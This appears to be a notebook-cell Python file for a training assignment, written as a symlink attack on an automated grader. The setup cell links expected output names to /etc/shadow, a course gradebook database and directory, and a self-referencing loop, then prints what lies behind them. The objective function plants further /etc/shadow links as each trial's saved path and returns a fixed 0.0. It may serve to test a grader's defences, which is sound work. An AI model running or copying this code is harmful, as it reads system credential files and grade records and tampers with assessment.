"""Links to what is outside, under names that the grader may open.

notebook: 03_01_search
base: release
"""
# %% before define_train
import os

for name, target in {
    "03_01_search_trial000.pt": "/etc/shadow",
    "03_01_search.db": "@COURSE@/gradebook.db",
    "runs": "@COURSE@",
    "loop": "loop",
}.items():
    os.symlink(target, name)
    try:
        print(name, os.listdir(name) if os.path.isdir(name) else open(name, "rb").read())
    except OSError as error:
        print(error)
# %% define_objective
def objective(trial):
    net = Net(trial, num_classes).to(device)
    train(net, trial)
    os.symlink("/etc/shadow", f"link{trial.number}")
    trial.set_user_attr("saved_path", f"link{trial.number}")
    return 0.0
